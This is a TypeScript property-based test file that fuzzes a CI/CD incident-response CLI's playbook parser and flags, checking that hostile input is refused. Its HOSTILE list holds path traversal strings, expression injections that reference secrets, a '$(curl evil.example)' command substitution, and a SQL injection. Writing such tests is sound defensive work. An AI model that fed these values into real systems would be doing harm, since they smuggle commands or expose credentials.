import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { CicdIrError } from '../../src/engine/errors.js';
import { parsePlaybook, resolveInputs } from '../../src/engine/playbook.js';
import type { RunningLab } from '../../src/lab/index.js';
import { CONTAIN_PLAYBOOK, labEnv, labFor, removeTempOuts, spawnCliAsync, tempOut } from './harness.js';

// The run folders the suite made are evidence only while it runs.
afterAll(removeTempOuts);

/** Strings an attacker (or a hurried responder) puts where names and ARNs go. */
const HOSTILE: string[] = [
  '../../etc/passwd',
  'acme/web/../../admin',
  '..',
  '/etc/shadow',
  'acme/web%2F..%2Fadmin',
  'acme/web?per_page=100&x=',
  'acme/web#frag',
  'acme web',
  'acme/\u202eweb',
  'acme/we\u0000b',
  'acme/w\neb',
  'ａｃｍｅ/ｗｅｂ',
  'acme/😈',
  '${{ inputs.repos }}x',
  '${{ steps.evidence.outputs.secret }}',
  '${{ github.token }}',
  '${{ secrets.AWS_SECRET_ACCESS_KEY }}',
  '${{ toJSON(env) }}',
  '${{',
  '}}${{',
  '$(curl evil.example)',
  '`id`',
  "'; DROP TABLE runs; --",
  'arn:aws:iam::123456789012:role/../../admin',
  'arn:aws:iam::*:role/*',
  'arn:aws:iam::12345678901:role/deploy',
  'arn:aws:sts::123456789012:assumed-role/deploy/x',
  'arn:aws:iam::123456789012:role/' + 'a'.repeat(200),
  'x'.repeat(70_000),
  '',
  ' ',
  '\t',
];

/** Hostile values of any YAML type. */
const hostileValue = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.constantFrom(...HOSTILE.slice(0, 12)), { maxLength: 3 }),
  fc.dictionary(fc.constantFrom('repo', 'role', '__proto__', 'constructor', 'x'), fc.constantFrom(...HOSTILE.slice(0, 8)), { maxKeys: 3 }),
);

/** A bad-input failure as the CLI must give it: exit 2 and a message with the file's line:col. */
function expectBadInput(error: unknown, located = true): void {
  if (!(error instanceof CicdIrError)) throw new Error(`not a CicdIrError: ${(error as Error)?.stack ?? String(error)}`);
  expect(error.exitCode).toBe(2);
  expect(error.message.length).toBeGreaterThan(0);
  if (located) expect(error.message).toMatch(/p\.yaml:\d+:\d+/);
}

const shipped = parse(readFileSync(CONTAIN_PLAYBOOK, 'utf8')) as Record<string, unknown> & { steps: Record<string, unknown>[]; inputs: Record<string, Record<string, unknown>> };

/** Sets `value` at a path of a copy of the shipped playbook. */
function mutate(path: (string | number)[], value: unknown): unknown {
  return mutateFrom(structuredClone(shipped), path, value);
}

/** A path into the shipped playbook's structure: a step field, a `with:` field, an input field, or the top. */
const pathInto = fc.oneof(
  fc.tuple(fc.constant('steps'), fc.nat({ max: shipped.steps.length - 1 }), fc.constantFrom('id', 'uses', 'needs', 'if', 'for_each', 'retry', 'timeout', 'continue_on_error', 'with')),
  fc
    .nat({ max: shipped.steps.length - 1 })
    .chain((index) => fc.tuple(fc.constant('steps'), fc.constant(index), fc.constant('with'), fc.constantFrom(...Object.keys((shipped.steps[index]!.with as object) ?? {}), 'extra', 'repo', 'role', 'user'))),
  fc.tuple(fc.constant('inputs'), fc.constantFrom(...Object.keys(shipped.inputs)), fc.constantFrom('type', 'default', 'required', 'description')),
  fc.tuple(fc.constantFrom('name', 'description', 'inputs', 'steps', 'bogus')),
);

describe('playbooks: thousands of hostile documents built on the shipped one', () => {
  it('each is either valid or refused with exit 2 and file:line:col, never another error', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(pathInto, hostileValue), { minLength: 1, maxLength: 3 }), (edits) => {
        const doc = structuredClone(shipped) as unknown;
        for (const [path, value] of edits) mutateFrom(doc, path, value);
        try {
          parsePlaybook(stringify(doc), 'p.yaml');
        } catch (error) {
          expectBadInput(error);
        }
      }),
      { numRuns: 3000 },
    );
  });

  it('a hostile literal repo or role in with: is always refused, never passed on', () => {
    // ('..' and role/../../admin are valid IAM names and paths: IAM allows '.' in names and
    // any printable ASCII in paths, so only values IAM itself refuses are listed for roles.)
    const invalidRepo = HOSTILE.filter((value) => !value.includes('${{'));
    const invalidRole = invalidRepo.filter((value) => !['..', 'arn:aws:iam::123456789012:role/../../admin'].includes(value));
    const targets: [number, string][] = [];
    shipped.steps.forEach((step, index) => {
      for (const key of ['repo', 'role']) if (step.with && key in (step.with as object)) targets.push([index, key]);
    });
    const invalid = invalidRepo;
    expect(targets.length).toBeGreaterThan(4);
    fc.assert(
      fc.property(fc.constantFrom(...targets), fc.constantFrom(...invalid), ([index, key], value) => {
        if (key === 'role' && !invalidRole.includes(value)) return;
        let threw: unknown;
        try {
          parsePlaybook(stringify(mutate(['steps', index, 'with', key], value)), 'p.yaml');
        } catch (error) {
          threw = error;
        }
        expect(threw, `${key}: ${JSON.stringify(value.slice(0, 40))} accepted`).toBeDefined();
        expectBadInput(threw);
      }),
      { numRuns: 1000 },
    );
  });
});

/** Sets `value` at a path of `doc` in place (creating maps on the way); returns `doc`. */
function mutateFrom(doc: unknown, path: (string | number)[], value: unknown): unknown {
  let node = doc as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) {
    if (node[key] === null || typeof node[key] !== 'object') node[key] = {};
    node = node[key] as Record<string | number, unknown>;
  }
  node[path.at(-1)!] = value;
  return doc;
}

describe('inputs: hostile --var values for the shipped playbook', () => {
  const playbook = parsePlaybook(readFileSync(CONTAIN_PLAYBOOK, 'utf8'), CONTAIN_PLAYBOOK);
  it('resolve or are refused with exit 2, never another error', () => {
    const value = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 30 }), fc.array(fc.constantFrom(...HOSTILE), { maxLength: 3 }), fc.boolean());
    fc.assert(
      fc.property(fc.dictionary(fc.constantFrom(...Object.keys(shipped.inputs), 'nope', '__proto__', 'constructor'), value, { maxKeys: 6 }), (vars) => {
        try {
          resolveInputs(playbook, vars as Record<string, string | string[] | boolean>);
        } catch (error) {
          expectBadInput(error, false);
        }
      }),
      { numRuns: 3000 },
    );
  });

  it('a hostile since is always refused', () => {
    const base = { repos: ['acme/web'], workflow: 'deploy.yml', incident: 'IR-1' };
    for (const since of HOSTILE) {
      let threw: unknown;
      try {
        resolveInputs(playbook, { ...base, since });
      } catch (error) {
        threw = error;
      }
      expect(threw, JSON.stringify(since.slice(0, 30))).toBeDefined();
      expectBadInput(threw, false);
    }
  });
});

describe('flags: real CLI processes with hostile flags make no API call', () => {
  let dir: string;
  const labs: RunningLab[] = [];
  beforeAll(async () => {
    dir = tempOut('bad-flags');
    writeFileSync(join(dir, 'bad.yaml'), 'name: x\nsteps:\n  - id: a\n    uses: github.disable-workflow\n    with: { repo: "../../etc", workflow: w.yml }\n');
  });
  afterAll(async () => {
    // Every case made no request: each lab's log is empty.
    for (const lab of labs) expect(lab.requests()).toEqual([]);
    await Promise.all(labs.map((lab) => lab.close()));
  });

  const base = ['--workflow', 'deploy.yml', '--incident', 'IR-1', '--yes'];
  const cases: [string, string[]][] = [
    ['repo with path traversal', ['contain', '--repo', '../../etc/passwd', ...base]],
    ['repo with a query string', ['contain', '--repo', 'acme/web?x=1', ...base]],
    ['repo with an expression', ['contain', '--repo', '${{ inputs.repos }}', ...base]],
    ['repo with RTL override', ['contain', '--repo', 'acme/\u202eweb', ...base]],
    ['repo of 70,000 characters', ['contain', '--repo', `acme/${'x'.repeat(70_000)}`, ...base]],
    ['empty repo', ['contain', '--repo', '', ...base]],
    ['role name with a space', ['contain', '--repo', 'acme/web', '--role', 'dep loy', ...base]],
    ['role name with a slash traversal', ['contain', '--repo', 'acme/web', '--role', '../../admin', ...base]],
    ['role ARN with wildcard account', ['contain', '--repo', 'acme/web', '--role', 'arn:aws:iam::*:role/*', ...base]],
    ['role as an STS ARN', ['contain', '--repo', 'acme/web', '--role', 'arn:aws:sts::123456789012:assumed-role/deploy/x', ...base]],
    ['since without a zone', ['contain', '--repo', 'acme/web', '--since', '2026-03-14T10:00', ...base]],
    ['since impossible date', ['contain', '--repo', 'acme/web', '--since', '2026-02-30T00:00:00Z', ...base]],
    ['since injection', ['contain', '--repo', 'acme/web', '--since', '${{ run.started_at }}', ...base]],
    ['aws-user with traversal', ['contain', '--repo', 'acme/web', '--aws-user', '../admin', ...base]],
    ['workflow with traversal', ['contain', '--repo', 'acme/web', '--workflow', '../../../etc/passwd', '--incident', 'IR-1', '--yes']],
    ['unknown flag', ['contain', '--repo', 'acme/web', '--bogus', ...base]],
    ['concurrency 0', ['contain', '--repo', 'acme/web', '--concurrency', '0', ...base]],
    ['concurrency not a number', ['contain', '--repo', 'acme/web', '--concurrency', 'many', ...base]],
    ['faults without lab', ['contain', '--repo', 'acme/web', '--faults', 'flaky-github', ...base]],
    ['resume of a missing run', ['contain', '--resume', '../../etc', '--yes', '--out', '/nonexistent-cicd-ir']],
    ['no repo', ['contain', '--workflow', 'deploy.yml', '--incident', 'IR-1', '--yes']],
    ['run: missing playbook file', ['run', '/nonexistent/playbook.yaml', '--yes']],
    ['run: var without =', ['run', CONTAIN_PLAYBOOK, '--var', 'repos', '--yes']],
    ['run: var injection into since', ['run', CONTAIN_PLAYBOOK, '--var', 'repos=acme/web', '--var', 'workflow=d.yml', '--var', 'incident=I', '--var', 'since=${{ run.started_at }}', '--yes']],
    ['run: hostile literal in the playbook', ['run', 'BAD_PLAYBOOK', '--yes']],
    ['run: unknown input', ['run', CONTAIN_PLAYBOOK, '--var', 'nope=1', '--yes']],
  ];

  it.concurrent.each(cases)('%s: exit 2, a message, no stack, no request', async (_name, args) => {
    const argv = args.map((arg) => (arg === 'BAD_PLAYBOOK' ? join(dir, 'bad.yaml') : arg));
    // Each case has its own lab, so a request is charged to the case that made it.
    const lab = await labFor();
    labs.push(lab);
    const result = await spawnCliAsync([...argv, ...(argv.includes('--out') ? [] : ['--out', join(dir, 'runs')])], labEnv(lab)).done;
    expect(result.code, `${result.stdout}\n${result.stderr}`).toBe(2);
    expect(result.stderr.trim().length).toBeGreaterThan(0);
    expect(result.stderr).not.toMatch(/\n\s+at .+:\d+:\d+\)?/);
    expect(lab.requests()).toEqual([]);
  });
});
